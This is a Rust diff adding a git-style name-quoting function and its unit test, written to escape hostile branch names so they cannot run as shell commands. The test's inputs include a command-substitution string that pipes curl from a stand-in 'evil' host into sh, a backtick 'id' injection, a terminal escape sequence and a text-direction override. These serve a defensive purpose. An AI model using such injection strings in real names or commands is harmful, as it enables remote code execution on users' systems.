@@ -127,6 +127,55 @@ impl std::fmt::Display for Quoted<'_> {
     }
 }
 
+/// A name nexo did not choose (a ref, a worktree's folder) as a message
+/// or a hint prints it: bare when every character is plain, else quoted as
+/// git quotes a path. Plain is what a shell reads as one word and a person
+/// reads as written: ASCII letters and digits, `-_./+,=@%:`, and letters and
+/// digits of any script (git with `core.quotePath` off). Anything else puts
+/// the name in double quotes, with `"` and `\` escaped, control characters
+/// as git writes them (`\t`, `\n`, ..., else octal), and other characters
+/// that are not letters or digits (invisible ones, direction overrides) as
+/// the octal of their bytes, as git writes every non-ASCII byte. `$` and
+/// `` ` `` are escaped too, so a quoted name pasted into a shell's double
+/// quotes is the name, not a command. One function, so every hint quotes a
+/// hostile branch name the same way.
+pub fn quote_name(name: &str) -> std::borrow::Cow<'_, str> {
+    let plain = |c: char| {
+        c.is_ascii_alphanumeric()
+            || "-_./+,=@%:".contains(c)
+            || (!c.is_ascii() && c.is_alphanumeric())
+    };
+    if !name.is_empty() && name.chars().all(plain) {
+        return std::borrow::Cow::Borrowed(name);
+    }
+    let mut out = String::with_capacity(name.len() + 2);
+    out.push('"');
+    for c in name.chars() {
+        match c {
+            '"' | '\\' | '$' | '`' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '\u{7}' => out.push_str("\\a"),
+            '\u{8}' => out.push_str("\\b"),
+            '\t' => out.push_str("\\t"),
+            '\n' => out.push_str("\\n"),
+            '\u{b}' => out.push_str("\\v"),
+            '\u{c}' => out.push_str("\\f"),
+            '\r' => out.push_str("\\r"),
+            c if c.is_ascii_control() || (!c.is_ascii() && !c.is_alphanumeric()) => {
+                let mut bytes = [0; 4];
+                for b in c.encode_utf8(&mut bytes).bytes() {
+                    out.push_str(&format!("\\{b:03o}"));
+                }
+            }
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    std::borrow::Cow::Owned(out)
+}
+
 /// `message` cut in its middle to [`MAX_MESSAGE_CHARS`]: its start names
 /// the problem and its end what was expected and where.
 pub fn clip_message(message: String) -> String {
@@ -206,6 +255,23 @@ mod tests {
             "{}",
             m.len()
         );
+    }
+
+    #[test]
+    fn names_are_quoted_as_git_quotes_paths_only_when_they_need_it() {
+        assert_eq!(quote_name("origin/feature-1.2"), "origin/feature-1.2");
+        assert_eq!(quote_name("café"), "café", "letters of any script");
+        assert_eq!(quote_name(""), "\"\"");
+        assert_eq!(quote_name("a b"), "\"a b\"");
+        assert_eq!(quote_name("x\u{1b}[31m"), "\"x\\033[31m\"");
+        assert_eq!(quote_name("tab\there"), "\"tab\\there\"");
+        assert_eq!(quote_name("say\"hi\"\\"), "\"say\\\"hi\\\"\\\\\"");
+        assert_eq!(
+            quote_name("$(curl${IFS}evil|sh)"),
+            "\"\\$(curl\\${IFS}evil|sh)\""
+        );
+        assert_eq!(quote_name("`id`;x"), "\"\\`id\\`;x\"");
+        assert_eq!(quote_name("a\u{202E}b"), "\"a\\342\\200\\256b\"");
     }
     use serde_json::json;
 
